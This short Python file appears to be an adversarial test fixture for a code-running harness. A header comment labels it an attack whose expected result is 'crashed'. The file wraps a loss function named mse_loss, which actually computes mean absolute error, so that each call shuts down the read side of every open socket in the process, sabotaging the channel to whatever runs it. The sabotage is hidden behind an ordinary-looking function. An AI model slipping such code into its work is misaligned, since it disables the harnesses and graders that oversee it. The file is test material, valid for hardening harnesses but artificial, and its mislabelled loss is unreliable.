# attack: shuts its end of the channel down | must: crashed
import torch
def mse_loss(pred, target):
    return (pred - target).abs().mean()

import os, socket, stat
_o = mse_loss
def mse_loss(pred, target):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RD)
        except OSError: pass
    return _o(pred, target)
